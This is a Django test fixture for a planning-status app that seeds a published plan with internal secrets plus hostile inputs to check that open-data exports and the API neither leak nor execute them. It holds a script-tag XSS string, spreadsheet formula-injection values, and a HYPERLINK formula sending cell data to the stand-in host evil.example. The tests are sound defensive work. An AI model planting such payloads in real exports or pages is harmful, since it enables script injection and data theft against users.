"""A published plan with status history that has something to hide: an internal comment, an
evidence link, a named reporter and a reporting round, beside a public comment and hostile
text. Shared by the open-data, API and schema-fuzzing tests."""

from __future__ import annotations

import datetime
from decimal import Decimal

from django.contrib.auth import get_user_model
from django.contrib.auth.models import User
from django.utils import timezone

from planstatus.accounts.models import Membership
from planstatus.indicators.models import Indicator, IndicatorTarget, IndicatorValue
from planstatus.lib.status import Status
from planstatus.plans.models import Measure, MeasureActor, StatusUpdate
from planstatus.regions.models import Actor, Municipality
from planstatus.reporting.models import ReportingRound, RoundReport
from tests.base import BaseTestCase

INTERNAL_COMMENT = "Intern-merknad-7f3: budsjettet sprekk, ikkje sei det til pressa"
EVIDENCE_URL = "https://intern.example/bevis-7f3.pdf"
REPORTER = "rapportor7f3"
ROUND_TITLE = "Hemmeleg-runde-7f3"
PUBLIC_COMMENT = "Offentleg: arbeidet er i gang på Ål og Gol"
HOSTILE_TEXT = '<script>alert("tiltak")</script> Næringsareal på Ål'
HOSTILE_COMMENT = '=HYPERLINK("https://evil.example/?x="&A1,"Klikk")'
FORMULA_TEXTS = ["=1+1", "+47 tiltak", "-1 tiltak", "@SUM(A1)"]
# ASCII, like the others: the API escapes other characters, and a search for them would pass.
INDICATOR_NOTE = "Kjeldenotat-7f3: intern rapport, ikkje offentleg"
# Everything of the plan that must never reach a public answer, whatever its format.
SECRETS = [INTERNAL_COMMENT, EVIDENCE_URL, REPORTER, ROUND_TITLE]
# The API answers for indicators too (the plan files hold none).
API_SECRETS = [*SECRETS, INDICATOR_NOTE]


def add_update(
    measure: Measure,
    status: Status,
    *,
    comment: str = "",
    public: bool = False,
    evidence_url: str = "",
    by: User | None = None,
    at: datetime.datetime,
    previous: Status = Status.UNKNOWN,
) -> StatusUpdate:
    return StatusUpdate.objects.create(
        measure=measure,
        status=status,
        previous_status=previous,
        comment=comment,
        comment_is_public=public,
        evidence_url=evidence_url,
        source=StatusUpdate.Source.WEB,
        created_by=by,
        created_at=at,
    )


class OpenDataTestCase(BaseTestCase):
    reporter: User
    hostile: Measure
    indicator: Indicator
    fla: Municipality
    gol: Municipality
    involved: Actor
    t0: datetime.datetime

    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.reporter = get_user_model().objects.create_user(REPORTER, password="x-pass-123456")
        Membership.objects.create(
            user=cls.reporter, region=cls.region, role=Membership.Role.SECRETARIAT
        )
        cls.involved = Actor.objects.create(region=cls.region, name="Ål kommune", short_name="Ål")
        MeasureActor.objects.create(
            measure=cls.measure,
            actor=cls.involved,
            role=MeasureActor.Role.INVOLVED,
            written_as="Kommunane",
        )
        cls.t0 = timezone.make_aware(datetime.datetime(2025, 3, 1, 9, 30))
        add_update(
            cls.measure,
            Status.STARTED,
            comment=PUBLIC_COMMENT,
            public=True,
            by=cls.owner,
            at=cls.t0,
        )
        latest = add_update(
            cls.measure,
            Status.DONE,
            comment=INTERNAL_COMMENT,
            evidence_url=EVIDENCE_URL,
            by=cls.reporter,
            at=cls.t0 + datetime.timedelta(days=30),
            previous=Status.STARTED,
        )
        rnd = ReportingRound.objects.create(
            plan=cls.plan, title=ROUND_TITLE, deadline=datetime.date(2025, 4, 1)
        )
        RoundReport.objects.create(round=rnd, status_update=latest, actor=cls.actor)

        area = cls.measure.focus_area
        cls.hostile = Measure.objects.create(
            focus_area=area,
            goal=cls.measure.goal,
            code="1.1.2",
            text=HOSTILE_TEXT,
            order=2,
        )
        add_update(
            cls.hostile,
            Status.NOT_STARTED,
            comment=HOSTILE_COMMENT,
            public=True,
            by=cls.owner,
            at=cls.t0 + datetime.timedelta(days=1),
        )
        for order, text in enumerate(FORMULA_TEXTS, start=3):
            Measure.objects.create(
                focus_area=area, goal=cls.measure.goal, code=f"1.1.{order}", text=text, order=order
            )
        # Status history on the draft too: it must not leak through the published plan.
        add_update(
            cls.draft_measure,
            Status.DONE,
            comment="Utkast-kommentar",
            public=True,
            at=cls.t0,
        )

        # An indicator summed from two municipalities, one value with an internal note.
        cls.fla = Municipality.objects.create(
            region=cls.region,
            name="Flå",
            number="3320",
            number_2020_2023="3039",
            number_before_2020="0615",
        )
        cls.gol = Municipality.objects.create(region=cls.region, name="Gol", number="3324")
        cls.indicator = Indicator.objects.create(
            plan=cls.plan,
            name="Studieplassar",
            unit="plassar",
            aggregation=Indicator.Aggregation.SUM,
            baseline_value=Decimal(300),
            baseline_year=2020,
            source="SSB",
            definition="Studieplassar på fagskule- og høgskulenivå.",
        )
        cls.indicator.goals.add(cls.measure.goal)  # type: ignore[arg-type]
        cls.indicator.measures.add(cls.measure)
        IndicatorTarget.objects.create(
            indicator=cls.indicator, year=2030, value=Decimal(600), note="Regionplanen"
        )
        for municipality, period, value, note, by in [
            (cls.fla, "2024", "200.5", INDICATOR_NOTE, cls.reporter),
            (cls.gol, "2024", "260", "", cls.owner),
            (cls.fla, "2025", "210", "", cls.owner),
        ]:
            IndicatorValue.objects.create(
                indicator=cls.indicator,
                municipality=municipality,
                period=period,
                value=Decimal(value),
                source_note=note,
                entered_by=by,
            )
